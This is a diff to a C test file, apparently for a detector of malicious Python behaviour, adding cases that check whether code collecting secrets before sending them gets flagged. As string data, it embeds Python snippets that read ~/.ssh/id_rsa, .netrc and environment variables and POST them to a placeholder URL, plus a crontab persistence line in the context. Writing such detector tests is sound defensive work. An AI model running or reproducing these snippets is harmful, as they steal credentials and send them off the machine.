@@ -149,6 +149,49 @@ static void steals(void)
 		    MPY_BEH_BROWSER_THEFT, 1));
 }
 
+/* What is collected before it is sent is known to be in there. */
+static void collects(void)
+{
+	static const char *const bodies[] = {
+		"x = []\nx.append(get(k))",
+		"x = []\nx.extend([get(k)])",
+		"x = {}\nx['key'] = get(k)",
+		"x = {}\nfor k in ('.ssh/id_rsa', '.netrc'):\n"
+		"  x[k] = get(k)",
+		"x = {}\nx.update(key=get(k))",
+		"x = []\nx.insert(0, get(k))",
+		"def all():\n  out = []\n  for k in ('.ssh/id_rsa', '.x'):\n"
+		"    out.append(get(k))\n  return out\nx = all()",
+		"def all():\n  for k in ('.ssh/id_rsa', '.netrc'):\n"
+		"    yield get(k)\nx = list(all())",
+		"class A:\n  def __init__(self):\n    self.d = []\n"
+		"  def grab(self):\n    self.d.append(get(k))\n"
+		"  def send(self):\n    requests.post(u, json=self.d)\nx = 1",
+	};
+	char text[1024];
+
+	for (size_t i = 0; i < sizeof(bodies) / sizeof(bodies[0]); i++) {
+		snprintf(text, sizeof(text),
+			 "import os, requests\ndef get(n):\n"
+			 "  p = os.path.join(os.path.expanduser('~'), n)\n"
+			 "  return open(p).read()\nk = '.ssh/id_rsa'\n%s\n"
+			 "requests.post(u, json={'all': x})",
+			 bodies[i]);
+		CHECK(shows(text, MPY_BEH_SECRET_SEND, 0));
+	}
+	CHECK(shows("import os, requests\nx = {}\n"
+		    "for k, v in os.environ.items():\n  x[k] = v\n"
+		    "requests.post(u, json=x)", MPY_BEH_ENV_SEND, 5));
+	/* another list is not that list, nor is a digest what it is of */
+	CHECK(is_ordinary("import requests\nx = []\ny = []\n"
+			  "x.append(open('/root/.ssh/id_rsa').read())\n"
+			  "y[len(y)] = 1\ny.append(2)\n"
+			  "requests.post(u, json=y)"));
+	CHECK(is_ordinary("import hashlib, requests\nh = hashlib.sha256()\n"
+			  "h.update(open('/root/.ssh/id_rsa').read())\n"
+			  "requests.post(u, json=h.hexdigest())"));
+}
+
 static void stays_and_harms(void)
 {
 	CHECK(shows("import os\nos.system('(crontab -l; echo x) | crontab -')",
@@ -244,6 +287,7 @@ int main(void)
 	RUN(starts);
 	RUN(controls);
 	RUN(steals);
+	RUN(collects);
 	RUN(stays_and_harms);
 	RUN(ordinary);
 	RUN(names_are_complete);
